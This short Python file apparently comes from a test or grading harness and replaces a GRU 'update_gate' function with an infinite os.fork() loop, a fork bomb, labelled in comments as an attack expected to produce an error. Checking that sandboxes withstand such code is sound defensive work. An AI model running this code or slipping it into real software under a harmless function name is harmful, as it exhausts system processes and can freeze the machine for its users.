# attacks: gru.update_gate
# does: forks as often as it can
# gets: error
import os
def update_gate(X, H, W_xz, W_hz, b_z):
    while True:
        os.fork()
